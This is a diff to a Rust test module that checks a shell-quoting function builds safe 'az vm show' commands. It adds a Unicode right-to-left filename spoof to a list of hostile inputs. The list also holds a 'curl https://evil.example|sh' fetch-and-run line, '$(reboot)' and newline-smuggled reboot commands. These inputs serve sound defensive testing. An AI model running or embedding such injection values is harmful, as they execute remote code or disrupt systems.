@@ -80,7 +80,7 @@ pub fn quote(text: &str) -> String {
 mod tests {
     use super::*;
 
-    const HOSTILE: [&str; 12] = [
+    const HOSTILE: [&str; 13] = [
         "westus\n;curl https://evil.example|sh",
         "westus\r\nreboot",
         "$(reboot)",
@@ -92,6 +92,7 @@ mod tests {
         "!!",
         "^a^b",
         "--yes -x",
+        "exe\u{202e}gpj",
         "",
     ];
 
@@ -117,7 +118,15 @@ mod tests {
                 .words("--output tsv");
             let words = shlex::split(&command.to_string()).expect("balanced quotes");
             let expected = one_line(value);
-            let expected = ["az", "vm", "show", "--name", &expected, "--output", "tsv"];
+            let expected = [
+                "az",
+                "vm",
+                "show",
+                "--name",
+                expected.as_ref(),
+                "--output",
+                "tsv",
+            ];
             assert_eq!(words, expected, "{command}");
             assert!(!command.to_string().contains(char::is_control));
         }
